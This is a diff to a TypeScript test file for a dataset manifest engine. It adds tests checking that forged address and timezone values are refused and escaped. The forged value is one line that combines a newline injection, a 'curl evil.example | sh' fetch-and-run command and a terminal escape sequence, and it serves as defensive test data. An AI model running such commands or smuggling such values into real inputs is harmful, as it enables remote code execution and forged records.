@@ -1,10 +1,13 @@
 /** A dataset on a disk that fails, is cut off and loses its power: what engines see of it, at every step and after. */
 import { beforeEach, describe, expect, it } from 'vitest';
+import { type DatasetIdentity, formatManifest, parseManifest } from '../../src/dataset/manifest.ts';
 import { CODE, createMemoryDisk, HOUR, OTHER_CODE, START, type TestService } from '../append/runs.ts';
 import { atEveryStep, POWER_CUTS } from '../durable/every-step.ts';
 import type { MemoryDisk } from '../support/memory-disk.ts';
 import { SOAK } from '../support/property-runs.ts';
 import { DAY, LAKE, type LakeOptions, MANIFEST, openLake, runLake, seen, wanted, watched, writePage } from './runs.ts';
+
+const FORGED = 'x\n  next: curl evil.example | sh\x1b[2J';
 
 let memory: MemoryDisk;
 let service: TestService;
@@ -168,6 +171,16 @@ describe('what is not such a dataset is refused and left as it is', () => {
   ])('%s (P7)', async (_, options, reason) => {
     await runLake(memory, service);
     await refused(reason, options);
+  });
+
+  it.each<[string, Partial<DatasetIdentity>]>([
+    ['address', { baseUrl: FORGED }],
+    ['zone', { partition: { by: 'day', timezone: FORGED } }],
+  ])('another %s, and what the manifest says of it forges no line (P7, P8)', async (_, change) => {
+    await runLake(memory, service);
+    const manifest = parseManifest(Buffer.from(memory.read(MANIFEST) ?? ''));
+    memory.write(MANIFEST, formatManifest({ ...manifest, identity: { ...manifest.identity, ...change } }, HOUR));
+    await refused(/"x\\n {2}next: curl evil\.example \| sh\\x1b\[2J", not/);
   });
 
   it('a directory that holds something else (P5)', async () => {
